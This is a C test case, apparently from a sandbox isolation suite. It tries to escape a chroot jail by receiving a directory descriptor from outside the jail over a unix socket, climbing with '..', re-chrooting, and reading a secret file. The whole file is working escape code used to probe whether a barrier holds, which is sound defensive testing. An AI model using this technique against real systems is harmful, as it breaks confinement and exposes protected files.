// tries: leave by a descriptor of a directory outside of its chroot(2) that another process passes over a unix socket
// wall: the view's barrier directory
// control: root
// needs: tree
#include "attack.h"
ATTACK
{
    char jail[256];
    int pair[2];
    sc(__NR_mkdir, own(jail, "jail"), 0755);
    long above = sc(__NR_openat, AT("/"), O_RDONLY | O_DIRECTORY);
    if (above < 0) cannot("opening /", above);
    if (sc(__NR_socketpair, AF_UNIX, SOCK_DGRAM, 0, pair) < 0) cannot("socketpair", -1);
    char byte = 'x', control[CMSG_SPACE(sizeof(int))];
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = (struct cmsghdr *)control;
    if (sc(__NR_fork) == 0) {
        header->cmsg_len = CMSG_LEN(sizeof(int));
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        *(int *)CMSG_DATA(header) = (int)above;
        pause_ms(50);
        sc(__NR_sendmsg, pair[1], &message, 0);
        leave(0);
    }
    sc(__NR_close, above);
    if (!attempt("chroot", sc(__NR_chroot, jail))) return;
    sc(__NR_chdir, "/");
    if (!attempt("receiving a directory", sc(__NR_recvmsg, pair[0], &message, 0))) return;
    sc(__NR_fchdir, *(int *)CMSG_DATA(header));
    for (int i = 0; i < 64; i++) sc(__NR_chdir, "..");
    attempt("chroot up", sc(__NR_chroot, "."));
    carried_out = 0;
    show_file(text("secret_file"));
}
